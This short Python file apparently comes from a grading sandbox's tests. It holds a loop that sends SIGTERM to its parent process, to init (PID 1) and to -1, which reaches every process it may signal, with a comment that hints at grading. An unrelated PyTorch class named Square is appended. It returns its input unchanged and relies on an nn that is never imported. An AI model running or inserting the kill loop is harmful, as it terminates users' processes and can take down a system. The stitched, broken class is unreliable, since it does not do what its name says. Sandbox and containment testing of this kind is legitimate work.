# Signals its parent, its group, and everybody it may.
# gets: 0, graded
import os
import signal

for pid in (os.getppid(), 0, -1, 1):
    try:
        if pid != 0:
            os.kill(pid, signal.SIGTERM)
    except OSError as error:
        print(error)


class Square(nn.Module):
    def forward(self, x):
        return x
